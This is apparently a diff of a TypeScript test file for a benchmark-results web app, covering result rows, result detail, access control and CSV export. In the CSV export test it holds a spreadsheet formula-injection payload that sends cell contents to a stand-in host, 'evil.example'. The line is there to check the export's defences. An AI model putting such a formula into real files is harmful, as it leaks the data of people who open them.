@@ -3,7 +3,12 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { hashPassword } from "@/lib/auth/passwords";
-import type { EvaluationRunJson, ResultDetailJson, ResultRowJson, RunComparisonJson } from "@/lib/benchmarks/benchmark-schemas";
+import type {
+  EvaluationRunJson,
+  ResultDetailJson,
+  ResultRowJson,
+  RunComparisonJson,
+} from "@/lib/benchmarks/benchmark-schemas";
 import { type BenchmarkSampleRecord, findBenchmarkSamples } from "@/lib/db/benchmark-subsets";
 import { type Database, openDatabase } from "@/lib/db/open-database";
 import { createSession } from "@/lib/db/sessions";
@@ -44,23 +49,49 @@ const output = (answer: string, note = "short") =>
   `<visual preference profile>\n"Color": "yellow hues"\n</visual preference profile>\n<visual non-preference profile>\n"Color": "orange hues"\n</visual non-preference profile>\n<think>\n${note}\n</think>\n<answer>${answer}</answer>`;
 
 /** Imports a results file for the subset where sample i is answered right when `right(i)`. */
-async function importRun(subsetName: string, model: string, right: (index: number) => boolean, note?: (index: number) => string): Promise<EvaluationRunJson> {
+async function importRun(
+  subsetName: string,
+  model: string,
+  right: (index: number) => boolean,
+  note?: (index: number) => string,
+): Promise<EvaluationRunJson> {
   const subsetSamples = await findBenchmarkSamples(database, subsets[subsetName]!);
-  const rows = subsetSamples.map((sample) => toResultRow({ imageA: sample.imageAPath, imageB: sample.imageBPath, question: "", label: sample.label }, output(right(sample.index) ? sample.label : other(sample.label), note?.(sample.index))));
+  const rows = subsetSamples.map((sample) =>
+    toResultRow(
+      { imageA: sample.imageAPath, imageB: sample.imageBPath, question: "", label: sample.label },
+      output(right(sample.index) ? sample.label : other(sample.label), note?.(sample.index)),
+    ),
+  );
   const id = subsets[subsetName]!;
-  const response = await callRoute(await routes.results(), "POST", `/api/benchmarks/subsets/${id}/results?model=${model}`, { sessionToken: session, params: { id }, body: toResultsFile(rows) });
+  const response = await callRoute(
+    await routes.results(),
+    "POST",
+    `/api/benchmarks/subsets/${id}/results?model=${model}`,
+    { sessionToken: session, params: { id }, body: toResultsFile(rows) },
+  );
   expect(response.status).toBe(201);
   return ((await response.json()) as { run: EvaluationRunJson }).run;
 }
 
 async function getRows(runId: string, query = "", token = session) {
-  const response = await callRoute(await routes.rows(), "GET", `/api/benchmarks/runs/${runId}/results${query}`, { sessionToken: token, params: { id: runId } });
-  return { status: response.status, body: (await response.json()) as { results: ResultRowJson[]; error: { code: string; message: string } } };
+  const response = await callRoute(await routes.rows(), "GET", `/api/benchmarks/runs/${runId}/results${query}`, {
+    sessionToken: token,
+    params: { id: runId },
+  });
+  return {
+    status: response.status,
+    body: (await response.json()) as { results: ResultRowJson[]; error: { code: string; message: string } },
+  };
 }
 
 async function compare(a: string, b: string) {
-  const response = await callRoute(await routes.compare(), "GET", `/api/benchmarks/compare?a=${a}&b=${b}`, { sessionToken: session });
-  return { status: response.status, body: (await response.json()) as RunComparisonJson & { error: { code: string; message: string } } };
+  const response = await callRoute(await routes.compare(), "GET", `/api/benchmarks/compare?a=${a}&b=${b}`, {
+    sessionToken: session,
+  });
+  return {
+    status: response.status,
+    body: (await response.json()) as RunComparisonJson & { error: { code: string; message: string } },
+  };
 }
 
 beforeAll(async () => {
@@ -72,8 +103,12 @@ beforeAll(async () => {
   useTestDatabase(database);
   session = await researcherSession("researcher@example.com");
   otherSession = await researcherSession("other@example.com");
-  const imported = await callRoute(await routes.imports(), "POST", "/api/benchmarks/imports", { sessionToken: session, body: { folder: demo, subsets: ["TEST_SP_ID", "TEST_SP_OD"] } });
-  for (const subset of ((await imported.json()) as { subsets: { id: string; name: string }[] }).subsets) subsets[subset.name] = subset.id;
+  const imported = await callRoute(await routes.imports(), "POST", "/api/benchmarks/imports", {
+    sessionToken: session,
+    body: { folder: demo, subsets: ["TEST_SP_ID", "TEST_SP_OD"] },
+  });
+  for (const subset of ((await imported.json()) as { subsets: { id: string; name: string }[] }).subsets)
+    subsets[subset.name] = subset.id;
   samples = await findBenchmarkSamples(database, subsets.TEST_SP_ID!);
 }, 60_000);
 
@@ -85,14 +120,24 @@ afterAll(async () => {
 
 describe("a run's results as rows", () => {
   it("lists every result in the official order with the answer the parser read", async () => {
-    const run = await importRun("TEST_SP_ID", "rows", (index) => index % 2 === 0, (index) => (index === 3 ? "100% sure_of it" : "short"));
+    const run = await importRun(
+      "TEST_SP_ID",
+      "rows",
+      (index) => index % 2 === 0,
+      (index) => (index === 3 ? "100% sure_of it" : "short"),
+    );
     const { status, body } = await getRows(run.id);
     expect(status).toBe(200);
     expect(body.results).toHaveLength(10);
     expect(body.results.map((row) => row.officialOrder)).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8, 9]);
     for (const row of body.results) {
       const sample = samples.find((candidate) => candidate.id === row.sampleId)!;
-      expect(row).toMatchObject({ sampleIndex: sample.index, label: sample.label, strictCorrect: sample.index % 2 === 0, formatValid: true });
+      expect(row).toMatchObject({
+        sampleIndex: sample.index,
+        label: sample.label,
+        strictCorrect: sample.index % 2 === 0,
+        formatValid: true,
+      });
       // The outputs give no scores.
       expect(row.issueCodes).toContain("missing-score");
       expect(row.answer).toBe(sample.index % 2 === 0 ? sample.label : other(sample.label));
@@ -109,7 +154,14 @@ describe("a run's results as rows", () => {
     const run = await importRun("TEST_SP_ID", "voted", () => true);
     const first = (await getRows(run.id)).body.results[0]!;
     expect(first.dreamsimVote).toBeNull();
-    await saveSimilarityVotes(database, run.id, [{ sampleId: first.sampleId, vote: "tie", distances: { a: { liked: [0.5], disliked: [0.5] }, b: { liked: [0.5], disliked: [0.5] } }, modelVersion: "test@0" }]);
+    await saveSimilarityVotes(database, run.id, [
+      {
+        sampleId: first.sampleId,
+        vote: "tie",
+        distances: { a: { liked: [0.5], disliked: [0.5] }, b: { liked: [0.5], disliked: [0.5] } },
+        modelVersion: "test@0",
+      },
+    ]);
     const rows = (await getRows(run.id)).body.results;
     expect(rows.find((row) => row.id === first.id)?.dreamsimVote).toBe("tie");
     expect(rows.filter((row) => row.dreamsimVote !== null)).toHaveLength(1);
@@ -127,16 +179,29 @@ describe("one result in full", () => {
   it("shows the output, its reading, the sample and the profile's similarity to the true one", async () => {
     const run = await importRun("TEST_SP_ID", "detail", () => false);
     const row = (await getRows(run.id)).body.results[0]!;
-    const response = await callRoute(await routes.detail(), "GET", `/api/benchmarks/results/${row.id}`, { sessionToken: session, params: { id: row.id } });
+    const response = await callRoute(await routes.detail(), "GET", `/api/benchmarks/results/${row.id}`, {
+      sessionToken: session,
+      params: { id: row.id },
+    });
     expect(response.status).toBe(200);
     const detail = (await response.json()) as ResultDetailJson;
     const sample = samples.find((candidate) => candidate.id === row.sampleId)!;
-    expect(detail.result).toMatchObject({ id: row.id, runId: run.id, strictCorrect: false, answer: other(sample.label) });
+    expect(detail.result).toMatchObject({
+      id: row.id,
+      runId: run.id,
+      strictCorrect: false,
+      answer: other(sample.label),
+    });
     expect(detail.result.output).toContain("<answer>");
     expect(detail.result.profiles.preference).toEqual([{ Color: "yellow hues" }]);
     // The output gives no scores: the reading names what is missing.
     expect(detail.result.issues.map((issue) => issue.code)).toContain("missing-score");
-    expect(detail.sample).toMatchObject({ index: sample.index, label: sample.label, imageAId: sample.imageAId, preferredImageIds: sample.preferredImageIds });
+    expect(detail.sample).toMatchObject({
+      index: sample.index,
+      label: sample.label,
+      imageAId: sample.imageAId,
+      preferredImageIds: sample.preferredImageIds,
+    });
     expect(detail.sample.preferAttributes?.Color).toBeTruthy();
     // The demo's true profile names a colour; the output names yellow: the figure is there, between 0 and 1.
     const colour = detail.profileSimilarity?.preference.Color;
@@ -148,9 +213,15 @@ describe("one result in full", () => {
   it("is not found for someone else or for an id that is not one", async () => {
     const run = await importRun("TEST_SP_ID", "hidden", () => true);
     const row = (await getRows(run.id)).body.results[0]!;
-    const theirs = await callRoute(await routes.detail(), "GET", `/api/benchmarks/results/${row.id}`, { sessionToken: otherSession, params: { id: row.id } });
+    const theirs = await callRoute(await routes.detail(), "GET", `/api/benchmarks/results/${row.id}`, {
+      sessionToken: otherSession,
+      params: { id: row.id },
+    });
     expect(theirs.status).toBe(404);
-    const nonsense = await callRoute(await routes.detail(), "GET", "/api/benchmarks/results/nope", { sessionToken: session, params: { id: "nope" } });
+    const nonsense = await callRoute(await routes.detail(), "GET", "/api/benchmarks/results/nope", {
+      sessionToken: session,
+      params: { id: "nope" },
+    });
     expect(nonsense.status).toBe(404);
   });
 });
@@ -193,8 +264,16 @@ describe("the CSV export", () => {
     const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Image A")';
     const rigged = await importRun("TEST_SP_OD", "rigged", () => true);
     // The answer block of every output of this run is the formula.
-    await database.prisma.evaluationResult.updateMany({ where: { runId: rigged.id }, data: { output: output(formula) } });
-    const response = await callRoute(await routes.exportRun(), "GET", `/api/benchmarks/runs/${rigged.id}/export?format=csv`, { sessionToken: session, params: { id: rigged.id } });
+    await database.prisma.evaluationResult.updateMany({
+      where: { runId: rigged.id },
+      data: { output: output(formula) },
+    });
+    const response = await callRoute(
+      await routes.exportRun(),
+      "GET",
+      `/api/benchmarks/runs/${rigged.id}/export?format=csv`,
+      { sessionToken: session, params: { id: rigged.id } },
+    );
     expect(response.status).toBe(200);
     const lines = (await response.text()).trim().split("\r\n");
     expect(lines).toHaveLength(3);
